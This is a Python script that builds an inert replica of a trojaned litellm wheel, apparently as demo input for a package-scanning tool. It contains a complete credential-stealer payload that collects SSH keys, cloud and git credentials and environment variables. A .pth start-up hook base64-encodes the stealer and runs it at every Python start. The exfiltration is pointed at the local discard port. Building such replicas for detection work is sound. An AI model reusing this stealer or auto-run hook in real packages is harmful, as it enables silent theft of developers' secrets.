"""Build an inert replica of the trojaned litellm 1.82.8 wheel (March 2026) for the demo.

The real release shipped `litellm_init.pth`, a start-up hook that ran at every Python start and
launched a base64-encoded credential stealer. This replica has the same shape, but its payload
only names credential files and posts to 127.0.0.1:9 (the discard port); custody never runs it
anyway, it only reads the archive. Standard library only.

Usage: python examples/build_demo.py [OUTDIR]   (default: examples/build)
"""

from __future__ import annotations

import base64
import hashlib
import os
import sys
import zipfile

PAYLOAD = """
import json, os, pathlib, urllib.request
home = pathlib.Path.home()
loot = {}
for rel in (".ssh/id_rsa", ".ssh/id_ed25519", ".aws/credentials", ".kube/config", ".git-credentials"):
    p = home / rel
    if p.exists():
        loot[rel] = p.read_text(errors="replace")
loot["env"] = dict(os.environ)
urllib.request.urlopen("http://127.0.0.1:9/collect", data=json.dumps(loot).encode())
"""

PTH = (
    "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
    f"\"import base64; exec(base64.b64decode('{base64.b64encode(PAYLOAD.encode()).decode()}'))\"], "
    "stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n"
)

INIT = '''"""litellm replica: a small, harmless library module."""

__version__ = "1.82.8"


def completion(model: str, messages: list[dict[str, str]]) -> dict[str, str]:
    return {"model": model, "content": messages[-1]["content"] if messages else ""}
'''


def _record_line(name: str, data: bytes) -> str:
    digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
    return f"{name},sha256={digest},{len(data)}"


def build_wheel(path: str, *, with_pth: bool, version: str) -> str:
    dist = f"litellm-{version}.dist-info"
    files = {
        "litellm/__init__.py": INIT.replace("1.82.8", version).encode(),
        f"{dist}/METADATA": f"Metadata-Version: 2.1\nName: litellm\nVersion: {version}\n".encode(),
        f"{dist}/WHEEL": b"Wheel-Version: 1.0\nGenerator: demo\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    if with_pth:
        files["litellm_init.pth"] = PTH.encode()
    record = "\n".join(_record_line(n, d) for n, d in files.items()) + f"\n{dist}/RECORD,,\n"
    files[f"{dist}/RECORD"] = record.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as wheel:
        for name, data in files.items():
            wheel.writestr(name, data)
    return path


def main() -> None:
    out = (
        sys.argv[1]
        if len(sys.argv) > 1
        else os.path.join(os.path.dirname(os.path.abspath(__file__)), "build")
    )
    os.makedirs(out, exist_ok=True)
    bad = build_wheel(os.path.join(out, "litellm-1.82.8-py3-none-any.whl"), with_pth=True, version="1.82.8")
    print(bad)


if __name__ == "__main__":
    main()
